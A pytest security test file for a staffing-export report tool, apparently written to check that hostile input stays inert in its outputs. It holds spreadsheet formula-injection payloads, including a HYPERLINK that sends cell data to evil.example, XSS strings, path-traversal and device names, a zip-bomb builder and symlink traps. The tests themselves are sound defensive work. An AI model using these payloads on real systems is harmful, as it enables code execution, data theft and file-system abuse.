"""An export made by an enemy, run through a whole night: no formula, no script, no path of theirs comes out
of it.
"""

import csv
import os
import re
import zipfile
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from tests.batch.runs import CONFIG, content, export, here, results
from tests.reports.test_page import Visit, browser

__all__ = ["browser"]

FORMULAS = (
    "=cmd|' /C calc'!A0",
    '+HYPERLINK("http://evil.example/?x="&A1,"klicka")',
    "-2+3+cmd|' /C notepad'!A1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
)
SCRIPTS = (
    "</script><script>window.owned=1</script>",
    "<img src=x onerror=window.owned=1>",
    "<svg/onload=window.owned=1>",
    '"><iframe src=http://evil.example/></iframe>',
    "<a href=javascript:window.owned=1>a</a>",
    "<!--<script>window.owned=1",
)
PLACES = (
    "../../etc/passwd",
    "..\\..\\windows",
    "CON",
    "nul.",
    "COM1.txt",
    "a:b",
    "x" * 300,
    "/abs",
    "…. ",
    "'=1+1",
)
FORBIDDEN = re.compile(r'[<>:"/\\|?*\x00-\x1f]')
DEVICES = re.compile(r"(?i)(con|prn|aux|nul|com\d|lpt\d)(\..*)?")


def cell(text: str) -> str:
    return '"' + text.replace('"', '""') + '"'


@pytest.fixture(scope="module")
def night(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The result of a night over hostile names, ids, units, activities, reasons and orders."""
    folder = tmp_path_factory.mktemp("attack")
    names = [*FORMULAS, *SCRIPTS]
    people = [f"P{number}" for number in range(len(names))] + list(PLACES)
    units = [*PLACES, *FORMULAS[:2], *SCRIPTS[:3]]
    staff = ["Anställningsnummer;Namn;Anställningsgrad;Anställningstyp;Enhet;Befattning"]
    bookings = ["Bokning;Anställningsnummer;Aktivitet;Enhet;Start;Slut;Beställningsorsak"]
    orders = ["Beställning;Enhet;Aktivitet;Start;Slut;Status;Prioritet"]
    free = ["Anställningsnummer;Start;Slut;Tillgänglighetstyp"]
    for number, one in enumerate(people):
        name, unit = names[number % len(names)], units[number % len(units)]
        kind = "Timlön" if number % 2 else "Månadslön"
        staff.append(";".join(map(cell, (one, name, "100", kind, unit, SCRIPTS[number % 6]))))
        # Two at once: a finding that shows name, unit and activity.
        for half in range(2):
            span = ("2026-03-02 07:00", "2026-03-02 15:00")
            words = (f"{FORMULAS[half]}{number}", one, names[half], unit, *span, names[number % len(names)])
            bookings.append(";".join(map(cell, words)))
        moment = f"2026-03-{10 + number % 12:02}"
        orders.append(
            ";".join(
                map(
                    cell,
                    (f"{unit}-{number}", unit, names[1], f"{moment} 07:00", f"{moment} 15:00", "Vakant", "1"),
                )
            )
        )
        if kind == "Timlön":
            free += [
                ";".join(
                    map(cell, (one, f"2026-03-{10 + day:02} 06:00", f"2026-03-{10 + day:02} 20:00", "Egen"))
                )
                for day in range(12)
            ]
    activities = ["Aktivitet;Benämning;Debiteringstyp"]
    activities += [";".join(map(cell, (name, name, "Debiterbar"))) for name in names]
    source = export(
        folder / "export",
        personal="\n".join(staff) + "\n",
        bokningar="\n".join(bookings) + "\n",
        aktiviteter="\n".join(activities) + "\n",
        bestallningar="\n".join(orders) + "\n",
        tillganglighet="\n".join(free) + "\n",
    )
    (source / "tcw.yaml").write_text(CONFIG + "kpis: {warnings: {booking_rate: {below: 99 %}}}\n", "utf-8")
    ended = here(source, folder / "out", "--log-format", "text")
    assert ended.code in {1, 4}, ended.told
    assert "failed" not in ended.told
    (result,) = results(folder / "out")
    return result


def test_every_file_is_in_the_folder_and_has_a_name_that_windows_takes(night: Path) -> None:
    files = list(content(night))
    assert any(name.startswith("people/") for name in files), "something was booked"
    for name in files:
        for part in name.split("/"):
            assert not FORBIDDEN.search(part), name
            assert not DEVICES.fullmatch(part), name
            assert part.strip(" .") == part, name
            assert len(part.encode()) <= 255, name
    assert {path.name for path in night.parent.iterdir()} <= {night.name, "latest.json", ".tcw-run.lock"}


def test_no_csv_holds_a_formula(night: Path) -> None:
    seen = 0
    for path in night.rglob("*.csv"):
        text = path.read_text("utf-8-sig")
        delimiter = ";" if text.split("\n")[0].count(";") > text.split("\n")[0].count(",") else ","
        for row in csv.reader(text.splitlines(), delimiter=delimiter):
            for value in row:
                seen += "cmd|" in value or "HYPERLINK" in value
                number = re.fullmatch(r"-?\d+([.,]\d+)?", value)
                assert number or value[:1] not in {"=", "+", "-", "@", "\t", "\r"}, (path.name, value)
    assert seen > 20


def test_no_workbook_holds_a_formula_of_theirs(night: Path) -> None:
    seen = 0
    for path in night.rglob("*.xlsx"):
        for sheet in openpyxl.load_workbook(path):
            for row in sheet.iter_rows():
                for one in row:
                    theirs = isinstance(one.value, str) and ("cmd|" in one.value or "evil" in one.value)
                    seen += theirs
                    assert not (theirs and one.data_type == "f"), (path.name, one.coordinate)
                    assert one.hyperlink is None or not one.hyperlink.target, (path.name, one.coordinate)
        with zipfile.ZipFile(path) as packed:
            assert not [
                name for name in packed.namelist() if "external" in name.lower() or "vba" in name.lower()
            ]
    assert seen > 20


@pytest.mark.browser
@pytest.mark.parametrize("name", ["check.html", "kpi.html"])
def test_no_page_runs_a_script_of_theirs(name: str, night: Path, browser: Any) -> None:
    with Visit(browser, night / name) as visit:
        visit.page.wait_for_timeout(300)
        for summary in visit.page.query_selector_all("summary"):
            summary.click()
        assert visit.page.evaluate("typeof window.owned") == "undefined"
        assert visit.page.query_selector_all("iframe, img[src], a[href^=javascript]") == []
        assert "onerror=window.owned" in visit.page.inner_text("body"), "it is shown, as text"


BAD_CONFIGS = {
    "key_file": "privacy: {key_file: ../../../etc/shadow-of-nothing}\nrun: {pseudonymise: true}\n",
    "files": "files: {'../../etc/passwd': {table: staff}}\nrun: {settle_seconds: 0}\n",
}


@pytest.fixture
def elsewhere(tmp_path: Path) -> Iterator[Path]:
    yield tmp_path
    assert not (tmp_path / "etc").exists()


def test_paths_in_settings_lead_nowhere(elsewhere: Path) -> None:
    source = export(elsewhere / "export")
    (source / "tcw.yaml").write_text(BAD_CONFIGS["key_file"], "utf-8")
    ended = here(source, elsewhere / "out", "--step", "followup")
    assert (ended.code, ended.names()[-1]) == (2, "pseudonym-key-file")
    (source / "tcw.yaml").write_text(BAD_CONFIGS["files"], "utf-8")
    assert here(source, elsewhere / "out", "--step", "followup").code == 0
    told = [
        one
        for result in results(elsewhere / "out")
        for one in (result / "run.json").read_text().split('"')
        if "passwd" in one
    ]
    assert all("etc/passwd" in one for one in told), (
        "a pattern matches names in the source, and opens nothing"
    )


def test_a_bomb_among_the_inputs_is_refused_unread(tmp_path: Path) -> None:
    source, out = export(tmp_path / "export"), tmp_path / "out"
    assert here(source, out, "--step", "followup").code == 0
    before = content(results(out)[0])
    with zipfile.ZipFile(source / "bokningar2.xlsx", "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("xl/workbook.xml", "<workbook/>")
        packed.writestr("xl/worksheets/sheet1.xml", b"0" * 400_000_000)
    ended = here(source, out, "--step", "followup")
    assert (ended.code, ended.names()[-1]) == (3, "file-bomb")
    assert [content(result) for result in results(out)] == [before]


@pytest.mark.skipif(os.name != "posix", reason="links need rights on Windows")
def test_links_in_the_output_folder_are_not_followed(tmp_path: Path) -> None:
    source, out = export(tmp_path / "export"), tmp_path / "out"
    treasure = tmp_path / "treasure"
    treasure.mkdir()
    (treasure / "file").write_text("gold")
    out.mkdir()
    (out / ".tcw-building-evil").symlink_to(treasure)
    (out / ".tcw-removing-evil").symlink_to(treasure)
    here(source, out, "--step", "followup", "--keep", "1")
    here(source, out, "--step", "followup", "--keep", "1")
    assert (treasure / "file").read_text() == "gold"
